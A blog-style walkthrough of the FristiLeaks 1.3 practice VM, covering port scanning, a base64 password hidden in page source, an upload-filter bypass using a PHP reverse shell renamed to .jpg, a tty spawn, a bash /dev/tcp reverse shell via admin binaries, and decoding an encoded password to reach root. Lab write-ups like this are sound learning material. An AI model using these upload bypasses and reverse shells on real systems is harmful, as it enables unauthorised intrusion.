Fristi Leaks

Fristi Leaks 1.3


Started out with a basic nmap all ports t4 timing and service detection.

nmap -p- -sV -t4

Below you can see the full output. full output

We’ve got Port 80 open time to explore a web app. drinkfristi

So much pink let’s run a nikto and start poking around. Fristinikto

While nikto was running I curled the robot.txt fristibots

From that we see the /cola/ /sisi/ /beer/ directories going to those takes me to a Jedi! droids

I didn’t know what sisi was ?? I did know that beer and cola where drinks though. The webpage said to stay calm and drink fristi so I wonder if /fristi/ exists. adminpanel

I doubt I need to brute force this. I must have missed something. I went back to the webpage and viewed the source hoping for a hint at a user name or something. eezee

Cool a note from the dev that never got cleaned up for production. It looks like they are using base64 for image encoding. When you Scroll to the bottom theres another message. base64message

We know that the dev was using base64 for images so I use the base64 util from the coreutils gnu package. base64 decode

Lets open up image.png and see if it decoded into something we can use. password

That is a lot of K’s lets see if we can use the user eezeepz and the List of K’s and e’s we just found.

loggedin Sweet Logged into the web app lets find a way to get a localshell with that upload button.


Playing with the upload button burnt a lot of my time and I learned a major lesson. I need to drill it into my head to try easy stuff first. webbypass

I Ended up spending like an hour researching how to bypass upload filters besides renaming backdoor.php to backdoor.php.jpg I never even tried it because I assumed that it wouldn’t work. I figured Fristileaks was from around 2015 or so and it had to have some sort of new trick to learn. I got mad at myself for not trying it first.

On Kali by default there are several php web shells in the /usr/share/webshells/php directory. You need to go in and change you port and IP on these and then for this particular shell use cp /usr/share/webshells/php/php-reverse-shell.php webshell.php.jpg this will use the copy command and create a new version with a .jpg extension at the end. listener

Then upload you webshell with the upload button. wedidit

Then browse to /uploads! whomp

Whoops! No Directory indexing so lets try to call the php renamed to jpg manually. uploadsAnd Lets Check out our listener. local

Local Dance! On to enumeration 2.0 for all the priv esc things!

Priv Esc

Well no tty shell so we need to spawn one of those. I tried to spawn with bash and vi but neither worked so python it is.

python -c 'import pty; pty.spawn("/bin/sh")

Hmmmmm? What’s wrong with that? Lets see if we can find our python binary as our path looked funky via env anyway.

whereis python

Looks like there is one in /usr/bin lets try it this time.

/usr/bin/python2 -c 'import pty; pty.spawn("/bin/sh")

Awesome We should have a full tty shell now.

There is a note in eezeepz home dir from the admin he has privs to certain bins and “be sure to call the full path and place the the commands into the /tmp folder and they will run”

I created a listener and used those binaries to pipe into a bash reverse shell.

/home/admin/echo | bash -i >& /dev/tcp/ 0>&1


So that Got me to be able to poke around /home/admin

I could now see the cronjob and cryptedpass.txt and fristigod with a whoisyourgodnow.txt file ?

Looking at you can see it does base64 and then rot13. I tried a couple decoders I use frequently but ultimately decided it would just be easier to reverse the python code to reverse the encryption. I looked at the libraries that were imported with the original script to understand everything that was going on and then wrote something quick and dirty.


import codecs,base64,sys
d = codecs.decode('=RFn0AKnlMHMPIzpyuTI0ITG'[::-1], 'rot13')u = base64.b64decode(d)
print u

Running my script gets the following output. output

And sudo -l gave me a dir to a do command script. root

The flag for good measure! Done

Lessons Learned

Make sure to try the basic stuff first. If anything this box taught me that. Don’t assumethe since it looks easy there isgoing to be an additional layer of difficulty stacked on top of the local shell staring you in the face.Enumeration is always key!

I had never really had to use sudo-u before handy to know and caused me to read the sudo man page again. I don’t know what I would do without Man pages. Good Documentation and RTFM! Is worth its weight in gold.